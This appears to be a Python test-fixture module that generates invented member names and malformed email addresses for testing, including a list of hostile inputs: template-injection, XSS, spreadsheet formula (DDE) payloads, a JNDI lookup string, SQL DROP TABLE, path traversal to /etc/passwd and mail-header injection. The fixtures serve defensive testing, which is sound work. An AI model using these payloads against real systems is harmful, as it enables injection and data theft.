"""Invented names: ordinary ones, in other scripts, with emoji, and hostile ones. `{t}` stands for the token."""

from random import Random

FIRST = (
    "Mara", "Jonas", "Elin", "Tomas", "Ines", "Luc", "Noor", "Pia", "Rui", "Sofia", "Anouk", "Bram", "Carla", "Dario",
    "Edda", "Finn", "Greta", "Hugo", "Iris", "Jules", "Kaia", "Lena", "Milo", "Nils", "Olga", "Paco", "Quinn", "Rosa",
    "Sven", "Tessa", "Ugo", "Vera", "Wanda", "Xenia", "Yara", "Zeno", "Aoife", "Chloé", "Zoë", "Jürgen", "Íñigo",
)  # fmt: skip
LAST = (
    "Tidewell", "Ankerbruch", "Lanternow", "Môlebrise", "Quaysmith", "Dünenhaar", "Faroleiro", "Kelpstra", "Saltmarsh",
    "Netzflick", "Brumefort", "Gullwright", "Mastelero", "Pontonnet", "Rigmore", "Schotstek", "Windlass", "O'Mooring",
)  # fmt: skip
EMOJI = ("🌊 {n} ⚓ {t}", "{n} 🚤💨 {t}", "🐙{t}🐙", "👩‍🚀 {n} {t}", "🏴‍☠️ {t} 🏴‍☠️", "{n} 🇫🇷🇩🇪 {t}")
RIGHT_TO_LEFT = ("أمل الميناء {t}", "נועה הגל {t}", "بحر القمر {t}", "שומר הלילה {t}", "مرسى {n} {t}")
HOSTILE = (
    "{{{{7*7}}}} {t}",
    "<script>alert(1)</script> {t}",
    "=cmd|' /C calc'!A0 {t}",
    "{n} {t}\r\nBcc: everyone-{t}@post.example",
    "-name- {t}",
    "%recipient% {t}",
    "${{jndi:ldap://{t}.example/a}}",
    "{n} " + "very " * 60 + "long {t}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}} {t}",
    "{{{{ config.items() }}}} {t}",
    '"><img src=x onerror=alert(1)> {t}',
    "+1+1 {t}",
    '@SUM(1+1)*cmd|"/C calc"!A0 {t}',
    "-2+3 {t}",
    "{t}'; DROP TABLE members;--",
    "*|FNAME|* {t}",
    "{{{{first_name}}}} {t}",
    "<%= 7*7 %> {t}",
    "[[7*7]] [link](javascript:alert(1)) {t}",
    "\u202e{t} rotartsinimda",
    "Z\u0351\u0343a\u0300\u0489lgo {t}",
    "{n}\t{t}\n.\nRCPT TO: all",
    "../../../etc/passwd {t}",
    "\u200b{t}\u200b",
    "%s%s%n {t} %(name)s {{0}}",
    '{t}, "quoted", semi;colon',
    "&lt;b&gt; &amp; {t}",
    "-address- <{t}@post.example>",
)
"""For templates, spreadsheets, mail headers, substitution tags, loggers, terminals and width."""

SENSITIVE_PLACES = ("Pier 7, {t}", "Boathouse {t}", "Quay of the {t}", "Under the crane, {t}", "Isle of {t}")
"""Free text of the location column: names no country, so that it is no evidence of one."""

BAD_ADDRESSES = (
    "{t}",
    "{t}@",
    "@{t}.example",
    "{t}@@post.example",
    "{t} quill@post.example",
    "{t}..quill@post.example",
    ".{t}@post.example",
    "{t}.@post.example",
    "{t}@post..example",
    "{t}@-post.example",
    "{t}@post,example",
    "{t}@" + "x" * 64 + ".example",
    "x" * 60 + "{t}@post.example",
    "{t}@post.example\r\nBcc: everyone@post.example",
    "{t}<script>@post.example",
    "{t}@post.example;second@post.example",
    "{t}@[300.1.2.3]",
    "{t}@post_office",
    "n/a ({t})",
    "{t}@post.example-",
)
"""None can be written to: RFC 5321 and 5322 (dot-atom, one @, local part at most 64, label at most 63)."""


def plain_name(rng: Random) -> str:
    """First and last name, the last in half of the cases."""
    return rng.choice(FIRST) + (f" {rng.choice(LAST)}" if rng.random() < 0.5 else "")


def handle_stem(rng: Random) -> str:
    """At most 9 ASCII letters: with `_` and a token that is Discourse's limit of 20 for a user name."""
    return "".join(sign for sign in rng.choice(FIRST).lower() if sign.isascii() and sign.isalpha())[:9]
